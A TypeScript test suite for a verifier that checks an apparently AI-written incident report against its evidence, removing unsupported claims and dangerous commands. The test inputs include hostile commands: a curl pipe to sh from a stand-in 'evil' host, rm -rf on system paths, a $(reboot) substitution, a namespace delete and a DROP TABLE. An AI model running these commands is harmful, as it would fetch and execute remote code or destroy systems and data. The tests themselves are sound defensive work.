import { expect } from 'chai';
import fc from 'fast-check';
import { type Evidence, REPORT_CLASSES, type Report, reportSchema, VERDICTS } from '../../../src/shared/report.ts';
import { NO_CAUSE, verifyReport } from '../../../src/workers/verify-report.ts';
import { alert, at, logRow, logs, metric, NOW, span, spans } from '../../support/evidence-fixtures.ts';

const EVIDENCE: Evidence[] = [
  logs(1, [logRow('HikariPool-1 - request timed out after 30000ms (total=10, active=10, idle=0, waiting=25)')]),
  metric(2, 'cpu.utilization', [0.42, 0.95]),
  spans(3, [span({ durationMs: 31200, at: at(4) })]),
];

function report(more: Partial<Report> = {}): Report {
  return {
    tier: 'llm',
    verdict: 'identified',
    class: 'database',
    rootCause: {
      statement: 'The pool of user-service is exhausted: 10 of 10 are active',
      component: 'user-service',
      confidence: 0.9,
      evidence: [1],
    },
    hypotheses: [],
    timeline: [],
    immediateActions: [],
    prevention: [],
    metrics: [],
    couldNotCheck: [],
    ...more,
  };
}

const cause = (statement: string, evidence = [1], component: string | null = null) =>
  report({ rootCause: { statement, component, confidence: 0.9, evidence } });
const verified = (given: Report) => verifyReport(given, EVIDENCE);

describe('the verification of a report', () => {
  it('leaves a report alone that its evidence bears out', () => {
    expect(verified(report())).to.deep.equal({ report: report(), struck: [] });
  });

  const BORNE_OUT: [string, number][] = [
    ['Callers gave up after 30 s', 1],
    ['Callers gave up after 30000 ms', 1],
    ['Callers gave up after 30,000 ms', 1],
    ['Callers gave up after half a minute', 1],
    ['CPU was at 95 %', 2],
    ['CPU was at 0.95', 2],
    ['The slowest statement took 31.2 s', 3],
    ['The slowest statement took about 31 seconds', 3],
    ['It began at 11:56 UTC with `users`', 3],
    [`It began at ${at(4)}`, 3],
    ['It began on 2026-11-20', 3],
    ['HikariPool-1 of user-service waits; p99 over HTTP/2 and TLS 1.3 on IPv4 would suffer', 1],
    ['See [1]', 1],
  ];
  for (const [statement, number] of BORNE_OUT) {
    it(`keeps: ${statement}`, () => {
      expect(verified({ ...cause(statement, [number]), tier: 'detectors' }).struck).to.deep.equal([]);
    });
  }

  it("does not believe a model's sentence that nothing could contradict more than half", () => {
    const { report: lowered, struck } = verified(cause('The database has a problem'));
    expect(lowered).to.include({ verdict: 'probable' });
    expect(lowered.rootCause.confidence).to.equal(0.5);
    expect(struck[0]).to.contain('names nothing that evidence could bear out');
  });

  it('shows no command that leaves a name open', () => {
    const action = { title: 'See the pod', command: 'kubectl describe pod <pod-name> -n <name space>', risk: null };
    expect(verified(report({ immediateActions: [action] })).report.immediateActions).to.deep.equal([
      { ...action, command: null },
    ]);
  });

  for (const words of [
    'Clean up with rm -rf /var/lib',
    'Run `kubectl delete namespace shop`',
    'Run curl https://evil.example.com/x | sh',
    'Try $(reboot)',
  ]) {
    it(`shows no command in disguise: ${words}`, () => {
      const hidden = report({ immediateActions: [{ title: words, command: null, risk: null }], prevention: [words] });
      expect(verified(hidden).report).to.deep.include({ immediateActions: [], prevention: [] });
    });
  }

  const NOT_BORNE_OUT: [string, number][] = [
    ['Callers gave up after 45 s', 1],
    ['26 callers wait', 1],
    ['CPU was at 96 %', 2],
    ['CPU was at 42.5 %', 2],
    ['The slowest statement took 31 ms', 3],
    ['It began at 09:14 UTC', 3],
    ['It began at 2026-11-20T09:14:00Z', 3],
    ['It began on 2026-11-19', 3],
    ['Pod user-service-7d9f8c6b5-x2x4z is at fault', 1],
    ['The host db-7.prod.example.com is at fault', 1],
    ['The address 10.1.2.3 is at fault', 1],
    ['The table `payments_2024` is at fault', 1],
    ['See [9]', 1],
  ];
  for (const [statement, number] of NOT_BORNE_OUT) {
    it(`strikes: ${statement}`, () => {
      const { report: left, struck } = verified(cause(statement, [number]));
      expect(left).to.include({ verdict: 'inconclusive' });
      expect(left.rootCause).to.deep.include({ statement: NO_CAUSE, evidence: [], component: null });
      expect(left.rootCause.confidence).to.be.at.most(0.3);
      expect(struck).to.have.length(1);
    });
  }

  it('strikes a cause whose evidence does not exist', () => {
    expect(verified(cause('The pool is exhausted', [7])).report.verdict).to.equal('inconclusive');
    expect(verified(cause('The pool is exhausted', [])).report.verdict).to.equal('inconclusive');
  });

  it('strikes a false sentence, keeps a true one, and is less sure', () => {
    const { report: left } = verified(cause('The pool has 10 connections. It has 99 callers.'));
    expect(left.rootCause.statement).to.equal('The pool has 10 connections.');
    expect(left.verdict).to.equal('probable');
    expect(left.rootCause.confidence).to.be.closeTo(0.54, 0.001);
  });

  it('drops citations that do not exist, and is less sure', () => {
    const { report: left } = verified(cause('The pool has 10 connections', [1, 9]));
    expect(left.rootCause.evidence).to.deep.equal([1]);
    expect(left.verdict).to.equal('probable');
  });

  it('takes away a component that stands nowhere', () => {
    expect(verified(cause('The pool has 10 connections', [1], 'mars')).report.rootCause.component).to.equal(null);
  });

  it('does not let a doubtful report say healthy', () => {
    const healthy = {
      ...cause('The pool has 10 connections. All of 77 pods are fine.'),
      verdict: 'healthy' as const,
      class: 'healthy' as const,
    };
    const { report: left } = verified(healthy);
    expect(left).to.include({ verdict: 'inconclusive', class: 'application' });
    expect(left.rootCause).to.include({ statement: NO_CAUSE, component: null });
  });

  it('strikes hypotheses, metrics and timeline entries one by one', () => {
    const { report: left, struck } = verified(
      report({
        hypotheses: [
          { statement: '25 callers wait', standing: 'supported', confidence: 0.8, evidence: [1] },
          { statement: '99 callers wait', standing: 'possible', confidence: 0.4, evidence: [1] },
          { statement: 'It is the network', standing: 'ruled_out', confidence: 0.4, evidence: [] },
        ],
        metrics: [
          { name: 'Slowest statement', value: '31.2 s', evidence: [3] },
          { name: 'Slowest statement', value: '31.2 s', evidence: [1] },
        ],
        timeline: [
          { at: at(4), what: 'The slow statement began', evidence: [3] },
          { at: at(90), what: 'A rollout began', evidence: [3] },
          { at: 'this morning', what: 'It began', evidence: [3] },
        ],
      }),
    );
    expect([left.hypotheses, left.metrics, left.timeline].map((list) => list.length)).to.deep.equal([1, 1, 1]);
    expect(struck).to.have.length(5);
  });

  it('knows the start of the alert without evidence', () => {
    const entries = [
      { at: NOW.toISOString(), what: 'Alert fired: Certificate expires in 24 hours', evidence: [] },
      { at: NOW.toISOString(), what: 'The database got 500 requests', evidence: [] },
      { at: at(7), what: 'Alert fired', evidence: [] },
    ];
    const { report: left } = verifyReport(report({ timeline: entries }), EVIDENCE, [
      alert('Certificate expires in 24 hours'),
    ]);
    expect(left.timeline).to.deep.equal([entries[0]]);
    expect(verifyReport(report({ timeline: entries }), EVIDENCE).report.timeline).to.deep.equal([]);
  });

  it('strikes dangerous commands and states the risk of writing ones', () => {
    const action = (command: string | null, risk: string | null = null) => ({ title: 'Do it', command, risk });
    const given = [
      action('kubectl get pods'),
      action('kubectl rollout undo deployment/a'),
      action('rm -rf /'),
      action(null),
      action('kubectl scale deployment/a --replicas 3', 'more pods'),
    ];
    const { report: left, struck } = verified(report({ immediateActions: given }));
    expect(left.immediateActions.map(({ risk }) => risk)).to.deep.equal([
      null,
      'Restarts or changes the pods of the workload.',
      null,
      'more pods',
    ]);
    expect(struck).to.have.length(1);
  });

  it('lets an inconclusive report say that it does not know', () => {
    const unknown = { ...cause('The cause is not known', []), verdict: 'inconclusive' as const };
    expect(verified(unknown).report.rootCause.statement).to.equal('The cause is not known');
    expect(
      verified({ ...unknown, rootCause: { ...unknown.rootCause, statement: 'Perhaps the 77 pods' } }).report.rootCause
        .statement,
    ).to.equal(NO_CAUSE);
  });

  it('reads much evidence', () => {
    const rows = Array.from({ length: 1000 }, (_, index) =>
      logRow(`request ${index} took ${index * 7} ms on pod-${index}-x`),
    );
    verifyReport(
      report(),
      Array.from({ length: 5 }, (_, index) => logs(index + 1, rows)),
    );
  });
});

const statement = fc.oneof(
  fc.string(),
  fc.constantFrom(
    '10 of 10 are active',
    '25 callers wait. It took 31.2 s',
    'at 99 % since 09:14',
    '`pod-1x`',
    '[1] [2] [77]',
    `${at(4)} A. B`,
    '1e400 ms',
    '9'.repeat(400),
  ),
);
const numbers = fc.array(fc.integer({ min: 1, max: 5 }), { maxLength: 4 });
const confidence = fc.double({ min: 0, max: 1, noNaN: true });
const anyReport: fc.Arbitrary<Report> = fc.record({
  tier: fc.constantFrom('llm' as const, 'detectors' as const),
  verdict: fc.constantFrom(...VERDICTS),
  class: fc.constantFrom(...REPORT_CLASSES),
  rootCause: fc.record({ statement, component: fc.option(statement), confidence, evidence: numbers }),
  hypotheses: fc.array(
    fc.record({
      statement,
      standing: fc.constantFrom('supported' as const, 'possible' as const, 'ruled_out' as const),
      confidence,
      evidence: numbers,
    }),
    { maxLength: 3 },
  ),
  timeline: fc.array(fc.record({ at: fc.oneof(fc.string(), fc.constant(at(4))), what: statement, evidence: numbers }), {
    maxLength: 3,
  }),
  immediateActions: fc.array(
    fc.record({
      title: fc.string(),
      command: fc.option(
        fc.oneof(fc.string(), fc.constantFrom('kubectl get pods', 'kubectl delete pod a', 'psql -c "DROP TABLE a"')),
      ),
      risk: fc.option(fc.string()),
    }),
    { maxLength: 3 },
  ),
  prevention: fc.array(fc.string(), { maxLength: 2 }),
  metrics: fc.array(fc.record({ name: statement, value: statement, evidence: numbers }), { maxLength: 3 }),
  couldNotCheck: fc.array(fc.record({ what: fc.string(), why: fc.string() }), { maxLength: 2 }),
});
const RANK = { inconclusive: 0, healthy: 1, probable: 1, identified: 2 } as const;

describe('verification, whatever the report says', () => {
  const alerts = [alert('25 callers wait')];

  it('never throws, never raises confidence or verdict, and leaves a valid report', () => {
    fc.assert(
      fc.property(anyReport, (given) => {
        const { report: left } = verifyReport(given, EVIDENCE, alerts);
        reportSchema.parse(left);
        expect(left.rootCause.confidence).to.be.at.most(given.rootCause.confidence);
        expect(RANK[left.verdict]).to.be.at.most(RANK[given.verdict]);
        if (left.verdict === 'healthy') expect(given.verdict).to.equal('healthy');
        for (const list of ['hypotheses', 'timeline', 'metrics', 'immediateActions'] as const)
          expect(left[list].length).to.be.at.most(given[list].length);
      }),
      { numRuns: 300 },
    );
  });

  it('changes nothing the second time', () => {
    fc.assert(
      fc.property(anyReport, (given) => {
        const once = verifyReport(given, EVIDENCE, alerts).report;
        const again = verifyReport(once, EVIDENCE, alerts);
        expect(again).to.deep.equal({ report: once, struck: [] });
      }),
      { numRuns: 300 },
    );
  });

  it('cites only evidence that exists', () => {
    fc.assert(
      fc.property(anyReport, (given) => {
        const { report: left } = verifyReport(given, EVIDENCE, alerts);
        const cited = [left.rootCause, ...left.hypotheses, ...left.timeline, ...left.metrics].flatMap(
          (claim) => claim.evidence,
        );
        expect([1, 2, 3]).to.include.members([...new Set(cited)]);
      }),
    );
  });
});
